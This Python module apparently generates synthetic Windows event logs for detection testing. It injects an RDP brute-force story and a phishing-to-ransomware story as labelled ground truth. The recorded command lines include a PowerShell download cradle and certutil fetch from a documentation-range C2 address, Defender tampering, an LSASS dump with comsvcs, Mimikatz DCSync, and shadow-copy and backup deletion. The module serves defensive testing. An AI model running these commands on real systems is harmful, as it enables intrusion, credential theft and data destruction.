"""Attack stories injected into the Windows sample, each step labelled with its ATT&CK techniques.

Two stories, both common at small businesses:

1. `rdp-brute-force` (WS01, whose RDP port is forwarded from the internet, at 10% of the window):
   password guessing from one address, a Remote Desktop logon with a weak service-account password,
   then a new local administrator.
2. `phishing-to-ransomware` (WS02, at 40% of the window, about 90 minutes): a macro document starts
   encoded PowerShell, certutil fetches a payload, a JScript dropper schedules it, the payload beacons,
   Defender is switched off, LSASS is dumped with comsvcs, PsExec with stolen admin credentials reaches
   the DC (DCSync with Mimikatz), a remote service on the file server runs commands, and shadow copies
   and the backup catalog are deleted.

Attacker addresses come from the documentation ranges of RFC 5737 (203.0.113.0/24, 198.51.100.0/24).
"""

from __future__ import annotations

import base64
import random
from dataclasses import dataclass, field
from typing import Final

from watchfloor.samples.truth import GroundTruth
from watchfloor.samples.windows_background import psexec
from watchfloor.samples.winevent import SECOND, Account, Draft, EventLog, Host, Proc, iso
from watchfloor.samples.winorg import DNS_DOMAIN, MINUTE, Org

BRUTE_FORCE_IP: Final = "203.0.113.77"
C2_IP: Final = "198.51.100.23"
_SYS32: Final = "C:\\Windows\\System32"
_POWERSHELL: Final = f"{_SYS32}\\WindowsPowerShell\\v1.0\\powershell.exe"
_OFFICE: Final = "C:\\Program Files\\Microsoft Office\\root\\Office16"
_GUESSED_USERS: Final = (
    "administrator",
    "admin",
    "user",
    "test",
    "scanner",
    "reception",
    "backup",
    "svc_backup",
    "guest",
    "office",
    "sql",
    "support",
)
_DUMP_TRACE: Final = (
    "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
    "C:\\Windows\\System32\\comsvcs.dll+3c4e3|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6e2f|"
    "C:\\Windows\\SYSTEM32\\dbgcore.DLL+18a44|C:\\Windows\\System32\\comsvcs.dll+3d1b6|"
    "C:\\Windows\\system32\\rundll32.exe+3bd4|C:\\Windows\\SYSTEM32\\ntdll.dll+6a271"
)


@dataclass(slots=True)
class Step:
    """One attack step while it is being generated; `truth()` once record ids are assigned."""

    story: str
    step: str
    techniques: tuple[str, ...]
    tactics: tuple[str, ...]
    host: str
    summary: str
    drafts: list[Draft] = field(default_factory=list)

    def add(self, *drafts: Draft | None) -> None:
        self.drafts.extend(d for d in drafts if d is not None)

    def proc(self, started: tuple[Proc, Draft | None]) -> Proc:
        proc, draft = started
        self.add(draft)
        return proc

    def truth(self) -> GroundTruth:
        ordered = sorted(self.drafts, key=lambda d: (d.at_us, d.seq))
        return GroundTruth(
            story=self.story,
            step=self.step,
            techniques=self.techniques,
            tactics=self.tactics,
            host=self.host,
            summary=self.summary,
            first_seen=iso(ordered[0].at_us),
            last_seen=iso(ordered[-1].at_us),
            record_ids=tuple(d.record_id for d in ordered),
        )


def inject(log: EventLog, org: Org, begin: int, end: int) -> list[Step]:
    span = end - begin
    rng = log.rng
    steps = rdp_brute_force(log, org, begin + span // 10 + rng.randrange(0, 10 * MINUTE))
    # The phishing story lasts up to ~95 minutes: keep it inside short windows too.
    phishing = min(span * 2 // 5, span - 110 * MINUTE)
    steps += phishing_to_ransomware(log, org, begin + phishing + rng.randrange(0, 10 * MINUTE))
    return steps


def _later(rng: random.Random, at: int, seconds: int) -> int:
    """`seconds` later, plus up to a quarter of that again: people and tools do not run on the second."""
    return at + seconds * SECOND + rng.randrange(0, max(1, seconds // 4) * SECOND + SECOND)


def _encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


def _user_shell(log: EventLog, org: Org, host: Host, account: Account) -> Proc:
    """The user's explorer.exe from the background, or one started before the window (no event)."""
    procs = org.procs[host.name]
    shell = procs.shells.get(account.name)
    if shell is not None:
        return shell
    return Proc(
        host=host,
        image="C:\\Windows\\explorer.exe",
        command_line="C:\\Windows\\Explorer.EXE",
        pid=log.pid(),
        guid=log.process_guid(host),
        session=log.session(account),
        integrity="Medium",
        current_directory=f"C:\\Users\\{account.name}\\",
    )


# -- story 1 ---------------------------------------------------------------------------------
def rdp_brute_force(log: EventLog, org: Org, at: int) -> list[Step]:
    rng = log.rng
    host = org.workstations[0]
    story = "rdp-brute-force"
    guessing = Step(
        story,
        "password-guessing",
        ("T1110.001",),
        ("credential-access",),
        host.name,
        f"{BRUTE_FORCE_IP} guesses passwords for common account names over exposed RDP (NLA)",
    )
    t = at
    for _ in range(rng.randrange(40, 56)):
        name = rng.choice(_GUESSED_USERS)
        exists = name in ("administrator", "svc_backup", "guest")
        guessing.add(
            log.failed_logon(
                t,
                host,
                name,
                "",
                3,
                sub_status="0xc000006a" if exists else "0xc0000064",
                ip=BRUTE_FORCE_IP,
                port=str(rng.randrange(1024, 65_535)),
                workstation="WIN-8K2Q1M3R7PD",
            )
        )
        t += rng.randrange(2, 9) * SECOND + rng.randrange(0, SECOND)
    logon_step = Step(
        story,
        "external-rdp-logon",
        ("T1133", "T1078.002", "T1021.001"),
        ("initial-access", "persistence", "lateral-movement"),
        host.name,
        f"RDP logon from {BRUTE_FORCE_IP} with the guessed password of service account svc_backup",
    )
    t = _later(rng, t, 40)
    account = org.svc_backup
    logon_step.add(
        log.logon(
            t,
            host,
            log.session(account),
            3,
            ip=BRUTE_FORCE_IP,
            port="0",
            workstation="WIN-8K2Q1M3R7PD",
            kerberos=False,
        )
    )
    session = log.session(account, terminal_session=3)
    procs = org.procs[host.name]
    t = _later(rng, t, 3)
    logon_step.add(
        log.logon(
            t,
            host,
            session,
            10,
            ip=BRUTE_FORCE_IP,
            port="0",
            workstation="WIN-8K2Q1M3R7PD",
            process_name=f"{_SYS32}\\svchost.exe",
            process_id=procs.svchost.pid,
            elevated=True,
        )
    )
    userinit = logon_step.proc(
        log.start_process(
            t + 2 * SECOND,
            procs.winlogon,
            f"{_SYS32}\\userinit.exe",
            f"{_SYS32}\\userinit.exe",
            session=session,
            integrity="High",
        )
    )
    explorer = logon_step.proc(
        log.start_process(t + 4 * SECOND, userinit, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE")
    )
    logon_step.proc(log.start_process(t + 6 * SECOND, explorer, f"{_SYS32}\\rdpclip.exe", "rdpclip"))

    admin = Step(
        story,
        "new-local-admin",
        ("T1136.001", "T1098"),
        ("persistence", "privilege-escalation"),
        host.name,
        "the intruder creates local user 'helpdesk' and adds it to Administrators",
    )
    t = _later(rng, t, 180)
    cmd = admin.proc(log.start_process(t, explorer, f"{_SYS32}\\cmd.exe", f'"{_SYS32}\\cmd.exe" '))
    new = Account("helpdesk", host.name, f"{host.machine_sid}-1003")
    t = _later(rng, t, 25)
    net = admin.proc(log.start_process(t, cmd, f"{_SYS32}\\net.exe", "net  user helpdesk Winter2026! /add"))
    admin.proc(
        log.start_process(
            t + 100_000,
            net,
            f"{_SYS32}\\net1.exe",
            " C:\\Windows\\system32\\net1  user helpdesk Winter2026! /add",
        )
    )
    admin.add(log.user_created(t + 300_000, host, new, session))
    t = _later(rng, t, 20)
    net = admin.proc(
        log.start_process(t, cmd, f"{_SYS32}\\net.exe", "net  localgroup administrators helpdesk /add")
    )
    admin.proc(
        log.start_process(
            t + 100_000,
            net,
            f"{_SYS32}\\net1.exe",
            " C:\\Windows\\system32\\net1  localgroup administrators helpdesk /add",
        )
    )
    admin.add(
        log.added_to_group(t + 300_000, host, new, session, group="Administrators", group_sid="S-1-5-32-544")
    )
    return [guessing, logon_step, admin]


# -- story 2 ---------------------------------------------------------------------------------
def phishing_to_ransomware(log: EventLog, org: Org, at: int) -> list[Step]:
    rng = log.rng
    host = org.workstations[1]
    user = org.staff[host.name]
    explorer = _user_shell(log, org, host, user)
    home = f"C:\\Users\\{user.name}"
    story = "phishing-to-ransomware"

    lure = Step(
        story,
        "macro-document",
        ("T1566.001", "T1204.002", "T1059.001"),
        ("initial-access", "execution"),
        host.name,
        f"{user.name} opens an emailed .docm; its macro starts hidden, encoded PowerShell",
    )
    outlook = lure.proc(
        log.start_process(at - 4 * MINUTE, explorer, f"{_OFFICE}\\OUTLOOK.EXE", f'"{_OFFICE}\\OUTLOOK.EXE" ')
    )
    inbox = f"{home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook"
    document = f"{inbox}\\7QX2LM1P\\Invoice_INV-20931.docm"
    lure.add(log.file_create(at, outlook, document))
    word = lure.proc(
        log.start_process(
            at + 6 * SECOND,
            outlook,
            f"{_OFFICE}\\WINWORD.EXE",
            f'"{_OFFICE}\\WINWORD.EXE" /n "{document}" /o ""',
        )
    )
    cradle = f"IEX (New-Object Net.WebClient).DownloadString('http://{C2_IP}/inv/a.ps1')"
    t = at + 41 * SECOND
    stager = lure.proc(
        log.start_process(
            t, word, _POWERSHELL, f"powershell.exe -NoP -NonI -W Hidden -Enc {_encoded(cradle)}"
        )
    )
    lure.add(log.script_block(t + SECOND, stager, cradle, warning=True))
    lure.add(log.network(t + 2 * SECOND, stager, C2_IP, 80))

    ingress = Step(
        story,
        "tool-transfer",
        ("T1105",),
        ("command-and-control",),
        host.name,
        "certutil downloads the payload into C:\\Users\\Public\\Libraries",
    )
    t = _later(rng, t, 120)
    payload = "C:\\Users\\Public\\Libraries\\msedgeupd.exe"
    certutil = ingress.proc(
        log.start_process(
            t,
            stager,
            f"{_SYS32}\\certutil.exe",
            f'"{_SYS32}\\certutil.exe" -urlcache -split -f http://{C2_IP}/inv/u.bin {payload}',
        )
    )
    ingress.add(
        log.network(t + SECOND, certutil, C2_IP, 80), log.file_create(t + 3 * SECOND, certutil, payload)
    )

    persist = Step(
        story,
        "scheduled-task",
        ("T1053.005", "T1059.007"),
        ("persistence", "execution"),
        host.name,
        "a JScript dropper run by wscript registers the payload as a scheduled task every 30 minutes",
    )
    t = _later(rng, t, 180)
    dropper = f"{home}\\AppData\\Roaming\\Microsoft\\Windows\\Templates\\sync.js"
    persist.add(log.file_create(t, stager, dropper))
    wscript = persist.proc(
        log.start_process(
            t + 5 * SECOND,
            stager,
            f"{_SYS32}\\wscript.exe",
            f'"{_SYS32}\\wscript.exe" //B //E:jscript "{dropper}"',
        )
    )
    task = "MicrosoftEdgeUpdateTaskMachineCoreUA"
    persist.proc(
        log.start_process(
            t + 7 * SECOND,
            wscript,
            f"{_SYS32}\\schtasks.exe",
            f'"{_SYS32}\\schtasks.exe" /create /sc minute /mo 30 /tn "{task}" /tr "{payload}" /f',
        )
    )
    scheduler = org.procs[host.name].svchost
    persist.add(log.file_create(t + 8 * SECOND, scheduler, f"{_SYS32}\\Tasks\\{task}"))

    beacon = Step(
        story,
        "c2-beacon",
        ("T1071.001",),
        ("command-and-control",),
        host.name,
        "the scheduled payload beacons to its command-and-control server over HTTPS",
    )
    t = _later(rng, t, 1800)
    implant = beacon.proc(
        log.start_process(t, scheduler, payload, payload, session=explorer.session, integrity="Medium")
    )
    beacon.add(
        log.dns_query(t + SECOND, implant, "cdn-edgeupdate.example", [C2_IP]),
        log.network(t + 2 * SECOND, implant, C2_IP, 443, "cdn-edgeupdate.example"),
    )

    tamper = Step(
        story,
        "defender-disabled",
        ("T1562.001",),
        ("defense-evasion",),
        host.name,
        "elevated PowerShell turns off Defender real-time, download and script scanning",
    )
    t = _later(rng, t, 240)
    elevated = tamper.proc(
        log.start_process(
            t, implant, _POWERSHELL, "powershell.exe -NoP -W Hidden -ep bypass", integrity="High"
        )
    )
    tamper.add(
        log.script_block(
            t + 2 * SECOND,
            elevated,
            "Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true "
            "-DisableScriptScanning 1\r\nAdd-MpPreference -ExclusionPath 'C:\\Users\\Public\\Libraries'",
            warning=True,
        )
    )

    dump = Step(
        story,
        "lsass-dump",
        ("T1003.001",),
        ("credential-access",),
        host.name,
        "LSASS memory is dumped with rundll32 comsvcs.dll MiniDump",
    )
    t = _later(rng, t, 360)
    lsass = org.procs[host.name].lsass
    dump_file = "C:\\Windows\\Temp\\wer6B21.tmp.dmp"
    rundll = dump.proc(
        log.start_process(
            t,
            elevated,
            f"{_SYS32}\\rundll32.exe",
            f'"{_SYS32}\\rundll32.exe" {_SYS32}\\comsvcs.dll, MiniDump {lsass.pid} {dump_file} full',
        )
    )
    dump.add(
        log.process_access(t + 200_000, rundll, lsass, "0x1fffff", _DUMP_TRACE),
        log.file_create(t + 900_000, rundll, dump_file),
    )

    lateral = Step(
        story,
        "psexec-to-dc",
        ("T1021.002", "T1569.002", "T1078.002"),
        ("lateral-movement", "execution"),
        org.dc.name,
        f"PsExec with the stolen {org.technician.name} credentials opens a SYSTEM shell on {org.dc.name}",
    )
    t = _later(rng, t, 840)
    drafts, dc_cmd = psexec(log, org, t, elevated, org.dc, "cmd.exe", account=org.technician)
    lateral.add(*drafts)

    dcsync = Step(
        story,
        "dcsync",
        ("T1003.006",),
        ("credential-access",),
        org.dc.name,
        "Invoke-Mimikatz on the DC replicates the krbtgt secret (DCSync)",
    )
    t = _later(rng, t, 180)
    command = (
        f"IEX (New-Object Net.WebClient).DownloadString('http://{C2_IP}/inv/im.ps1'); "
        f"Invoke-Mimikatz -Command '\"lsadump::dcsync /domain:{DNS_DOMAIN} /user:krbtgt\"'"
    )
    mimi = dcsync.proc(
        log.start_process(t, dc_cmd, _POWERSHELL, f'powershell.exe -NoP -ep bypass -c "{command}"')
    )
    dcsync.add(
        log.network(t + SECOND, mimi, C2_IP, 80),
        log.script_block(t + 3 * SECOND, mimi, command, warning=True),
    )

    server = org.file_server
    if server is None:
        return [lure, ingress, persist, beacon, tamper, dump, lateral, dcsync]
    remote = Step(
        story,
        "remote-service-exec",
        ("T1569.002", "T1543.003"),
        ("execution", "persistence"),
        server.name,
        f"an smbexec-style service on {server.name} runs commands through %COMSPEC%",
    )
    t = _later(rng, t, 720)
    remote.add(
        log.logon(
            t,
            server,
            log.session(org.technician),
            3,
            ip=host.ip,
            port=str(rng.randrange(49_152, 65_535)),
            workstation=host.name,
            kerberos=False,
        )
    )
    service = "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz") for _ in range(8))
    batch = f"%SYSTEMROOT%\\{service}.bat"
    recovery = (
        "vssadmin.exe delete shadows /all /quiet",
        "wmic.exe shadowcopy delete /nointeractive",
        "wbadmin.exe delete catalog -quiet",
        "bcdedit.exe /set {default} recoveryenabled No",
    )
    services = org.procs[server.name].services
    shells: list[Proc] = []
    for index, line in enumerate(recovery):
        at_service = t + (index + 1) * 20 * SECOND
        image_path = (
            f"%COMSPEC% /Q /c echo {line} ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > {batch} & "
            f"%COMSPEC% /Q /c {batch} & del {batch}"
        )
        remote.add(
            log.service_installed(at_service, server, service, image_path, installer_sid=org.technician.sid)
        )
        shells.append(
            remote.proc(
                log.start_process(
                    at_service + 300_000,
                    services,
                    f"{_SYS32}\\cmd.exe",
                    f"C:\\Windows\\system32\\cmd.exe /Q /c C:\\Windows\\{service}.bat",
                )
            )
        )

    impact = Step(
        story,
        "inhibit-recovery",
        ("T1490",),
        ("impact",),
        server.name,
        f"shadow copies, the backup catalog and boot recovery are removed on {server.name}",
    )
    for index, (shell, line) in enumerate(zip(shells, recovery, strict=True)):
        image = line.split(" ", 1)[0]
        impact.proc(
            log.start_process(
                t + (index + 1) * 20 * SECOND + SECOND,
                shell,
                f"{_SYS32}\\{image}",
                f"{image} {line.split(' ', 1)[1]}",
            )
        )
    return [lure, ingress, persist, beacon, tamper, dump, lateral, dcsync, remote, impact]
